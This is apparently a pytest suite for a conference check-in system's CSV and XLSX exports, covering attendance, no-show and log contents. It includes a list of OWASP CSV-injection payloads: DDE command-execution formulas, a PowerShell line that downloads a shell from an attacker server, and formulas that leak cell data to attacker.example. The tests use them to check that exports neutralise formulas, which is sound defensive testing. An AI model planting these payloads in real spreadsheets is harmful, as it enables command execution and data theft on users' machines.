"""CSV and XLSX exports, read back with the csv module and openpyxl."""

from __future__ import annotations

import csv
import zipfile
from datetime import UTC, datetime

import openpyxl
import pytest

from checkin.reports import exports, tables
from checkin.reports.data import load_attendance
from checkin.reports.exports import ExportError


def read_csv(path, delimiter=";"):
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 BOM for Excel"
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle, delimiter=delimiter))


def test_attendance_csv_per_session(attended, tmp_path):
    data = load_attendance(attended)
    path = exports.export_attendance(data, tmp_path / "plenary.csv", session=data.session("plenary"))
    rows = read_csv(path)
    # p4's plenary check-in was undone: not present. Alphabetical: N'Guessan, Ndayishimiye, Wu.
    assert [(r["Nom / Name"], r["Prénom / First name"]) for r in rows] == [
        ("Li", "Wu"),
        ("N'Guessan", "Kouadio"),
        ("Ndayishimiye", "Hélène"),
    ]
    by_name = {r["Nom / Name"]: r for r in rows}
    assert by_name["Ndayishimiye"]["Heure d'arrivée / Arrival time"] == "2025-02-03 09:30:00"
    assert by_name["N'Guessan"]["Pays / Country"] == "Côte d'Ivoire"
    assert by_name["N'Guessan"]["Méthode / Method"] == "scanner"
    assert by_name["Ndayishimiye"]["Organisation"] == "Mutuelle de la Fonction Publique"
    assert by_name["Ndayishimiye"]["Poste / Station"] == "Auditorium – porte A"
    assert {r["N°"] for r in rows} == {"1", "2", "3"}


def test_attendance_csv_all_sessions_with_comma(attended, tmp_path):
    data = load_attendance(attended)
    path = exports.export_attendance(data, tmp_path / "all.csv", delimiter=",")
    rows = read_csv(path, ",")
    pairs = {(r["Session (id)"], r["Identifiant / Id"]) for r in rows}
    assert pairs == {
        ("plenary", "p1"), ("plenary", "p2"), ("plenary", "p5"),
        ("speakers", "p2"), ("speakers", "p5"),
        ("workshop-a", "p1"), ("workshop-a", "p4"),
    }
    assert ";" not in path.read_text(encoding="utf-8-sig").splitlines()[0]


def test_unknown_extension_and_separator_are_refused(attended, tmp_path):
    data = load_attendance(attended)
    with pytest.raises(ExportError):
        exports.export_attendance(data, tmp_path / "x.txt")
    with pytest.raises(ExportError):
        exports.write_csv(tables.matrix_table(data), tmp_path / "x.csv", delimiter="\t")
    assert not (tmp_path / "x.txt").exists() and not (tmp_path / "x.csv").exists()


def test_matrix_csv(attended, tmp_path):
    data = load_attendance(attended)
    rows = read_csv(exports.export_matrix(data, tmp_path / "m.csv"))
    assert len(rows) == 5  # everybody, the cancelled one included
    by_id = {r["Identifiant / Id"]: r for r in rows}
    plenary = "Plénière d'ouverture / Opening plenary"
    workshop = "Atelier A / Workshop A"
    assert by_id["p1"][plenary] == "2025-02-03 09:30:00"
    assert by_id["p1"][workshop] == "2025-02-03 12:05:00"
    assert by_id["p4"][plenary] == ""  # undone
    assert by_id["p1"]["Sessions suivies / Sessions attended"] == "2"
    assert by_id["p3"]["Statut / Status"] == "cancelled"
    assert by_id["p3"]["Nom / Name"] == "Nkurunziza-Habonimana"


def test_noshows(attended, tmp_path):
    data = load_attendance(attended)
    rows = read_csv(exports.export_noshows(data, tmp_path / "n.csv"))
    missing = {(r["Session (id)"], r["Identifiant / Id"]) for r in rows}
    # plenary: everybody but the cancelled p3 is expected; p4's entry was undone.
    # speakers' lounge admits speakers and organisers only; workshop-a only p1 registered.
    assert missing == {("plenary", "p4")}
    assert rows[0]["E-mail"] == ""
    one = read_csv(exports.export_noshows(data, tmp_path / "s.csv", session=data.session("speakers")))
    assert one == []


def test_checkin_log_in_local_time_with_undos_and_overrides(attended, tmp_path):
    data = load_attendance(attended)
    rows = read_csv(exports.export_log(data, attended, tmp_path / "log.csv"))
    assert len(rows) == 8
    assert [r["Heure locale / Local time"] for r in rows][:2] == [
        "2025-02-03 09:30:00", "2025-02-03 09:32:00",
    ]
    undone = [r for r in rows if r["Annulé / Undone"] == "1"]
    assert [(u["Identifiant / Id"], u["Session (id)"]) for u in undone] == [("p4", "plenary")]
    assert undone[0]["Annulé à / Undone at"] == "2025-02-03 09:41:00"
    assert undone[0]["Méthode / Method"] == "search"
    overrides = [r for r in rows if r["Dérogation / Override"] == "1"]
    assert [(o["Identifiant / Id"], o["Session (id)"]) for o in overrides] == [("p4", "workshop-a")]
    assert {r["Poste / Station"] for r in rows} == {"Auditorium – porte A"}
    assert rows[0]["Prénom / First name"] == "Hélène"


def test_xlsx_one_sheet_per_session_plus_summary(attended, tmp_path):
    data = load_attendance(attended)
    path = exports.export_attendance(data, tmp_path / "attendance.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == [
        "Résumé - Summary",
        "Plénière d'ouverture",
        "Salon des intervenants",
        "Atelier A",
        "Matrice - Matrix",
    ]
    plenary = book["Plénière d'ouverture"]
    rows = list(plenary.iter_rows(values_only=True))
    assert rows[0][0].startswith("Plénière d'ouverture / Opening plenary — 03/02/2025 08:00")
    assert rows[1][:3] == ("N°", "Nom / Name", "Prénom / First name")
    people = [r[1:3] for r in rows[2:]]
    assert people == [("Li", "Wu"), ("N'Guessan", "Kouadio"), ("Ndayishimiye", "Hélène")]
    arrival = rows[4][6]
    assert arrival == datetime(2025, 2, 3, 9, 30)  # a real date-time cell, local time
    summary = [r for r in book["Résumé - Summary"].iter_rows(values_only=True)]
    session_rows = {r[0]: r for r in summary if r and r[0] and str(r[0]).startswith("Atelier A")}
    (workshop,) = session_rows.values()
    assert workshop[4:7] == (1, 2, 200.0)  # expected 1 (p1), present 2 (one override)


def test_workbook_has_everything(attended, tmp_path):
    data = load_attendance(attended)
    book = openpyxl.load_workbook(exports.export_workbook(data, attended, tmp_path / "all.xlsx"))
    assert book.sheetnames[-4:] == ["Matrice - Matrix", "Absents - No-shows", "Journal - Log",
                                    "Doubles - Double entries"]
    log = list(book["Journal - Log"].iter_rows(values_only=True))
    assert len(log) == 1 + 8


def test_sheet_names_follow_excel_rules():
    names = exports.sheet_names(["a" * 40, "a" * 40, "x/y:z?", "A" * 40])
    assert all(len(n) <= 31 for n in names)
    assert len({n.casefold() for n in names}) == 4
    assert names[2] == "x-y-z-"


def test_summary_counts(attended):
    data = load_attendance(attended)
    categories = {r[0]: r[1:] for r in tables.group_counts(data, "category").rows}
    assert categories["Participant"] == (2, 2)  # p1, p4 (p3 cancelled); p4 came by override
    assert categories["Intervenant / Speaker"] == (1, 1)
    countries = {r[0]: r[1:] for r in tables.group_counts(data, "country").rows}
    assert countries["Côte d'Ivoire"] == (1, 1)
    assert countries["Burundi"] == (1, 1)
    totals = dict(tables.totals(data).rows)
    assert totals["Inscrits / Registered"] == 4
    assert totals["Annulés / Cancelled"] == 1


def test_decimal_comma_with_semicolon(attended, tmp_path):
    assert exports.csv_value(12.5, ";") == "12,5"
    assert exports.csv_value(12.5, ",") == "12.5"


# The payloads of OWASP's "CSV Injection" page, and the variants its guidance names: a formula
# sign after leading spaces, a tab, a carriage return, + or - before a digit or a space.
OWASP_PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://attacker.example/?leak=\"&A1&A2, \"Error: please click for details\")",
    "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
    "=WEBSERVICE(\"http://attacker.example/\"&A1)",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "- 2+3+cmd|' /C calc'!A0",
    "+ 1",
    "=1+1",
    "=10+20+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "   =1+1",
    "  @SUM(1+1)",
    " -2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tcmd",
    "\rcmd",
    "\uff1d1+1",
    "\u00a0=1+1",
    "+257 79 00 00 00",
    "-12",
)


def test_csv_never_carries_a_formula(tmp_path):
    """Every OWASP payload comes back behind an apostrophe, whole; ordinary text is left as
    it is, apostrophes in names included."""
    harmless = ("N'Guessan", "Élodie", "a=b", "1+1", "'quoted", "", "x;=1+1")
    table = tables.Table("t", ("a",), tuple((p,) for p in OWASP_PAYLOADS + harmless))
    rows = read_csv(exports.write_csv(table, tmp_path / "f.csv"))
    cells = [r["a"] for r in rows]
    assert cells == ["'" + p for p in OWASP_PAYLOADS] + list(harmless)
    # The same through the other separator, and in a header (the matrix names its columns
    # after sessions, which come from the organisers' files or the hub).
    table = tables.Table("t", ("=1+1", "ok"), tuple((p, "x") for p in OWASP_PAYLOADS))
    with open(exports.write_csv(table, tmp_path / "g.csv", delimiter=","),
              encoding="utf-8-sig", newline="") as handle:
        header, *body = list(csv.reader(handle))
    assert header == ["'=1+1", "ok"]
    assert [row[0] for row in body] == ["'" + p for p in OWASP_PAYLOADS]


def test_guard_is_the_only_csv_path(attended, tmp_path):
    """The exports built from the database go through the same guard: an attendee whose
    organisation is a payload comes out neutralised in the attendance CSV."""
    with attended.transaction() as db:
        db.execute("update attendees set organisation = ?", ["-2+3+cmd|' /C calc'!A0"])
    data = load_attendance(attended)
    rows = read_csv(exports.export_attendance(data, tmp_path / "a.csv",
                                              session=data.session("plenary")))
    assert rows and {r["Organisation"] for r in rows} == {"'-2+3+cmd|' /C calc'!A0"}


def test_xlsx_keeps_payloads_as_text(tmp_path):
    """In XLSX every text cell is a typed string: no formula element, nothing to neutralise,
    the phone number stays "+257 …"."""
    table = tables.Table("t", ("a",), tuple((p,) for p in OWASP_PAYLOADS))
    path = exports.write_xlsx([table], tmp_path / "f.xlsx")

    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    cells = [c for c in openpyxl.load_workbook(path).active["A"]][1:]
    assert all(c.data_type == "s" for c in cells)
    # (XML reads a carriage return in text as a line feed.)
    assert [c.value for c in cells] == [p.replace("\r", "\n") for p in OWASP_PAYLOADS]

def test_noshows_only_count_sessions_that_have_started(attended, tmp_path):
    """Issue 15, item 4: at 10:00 on day 1 the workshop (12:00) has not begun, so nobody is
    missing from it yet; the plenary (08:00) has."""
    from datetime import timezone

    from checkin import tokens
    from checkin.model import Attendee

    attended.upsert_attendees([Attendee("x1", "test", tokens.new_token("TST25"), "Aline",
                                        "Ciza", "MFP", "Burundi", workshops=("workshop-a",))])
    morning = datetime(2025, 2, 3, 8, 0, tzinfo=UTC)  # 10:00 in Bujumbura
    data = load_attendance(attended, now=morning)
    rows = read_csv(exports.export_noshows(data, tmp_path / "n.csv"))
    sessions = {row["Session (id)"] for row in rows}
    assert sessions == {"plenary"}
    assert not data.no_shows(data.session("workshop-a"))
    after = load_attendance(attended, now=datetime(2025, 2, 3, 11, 0, tzinfo=UTC))
    assert ("workshop-a", "x1") in {(r[0], r[-1]) for r in tables.noshow_table(after).rows}
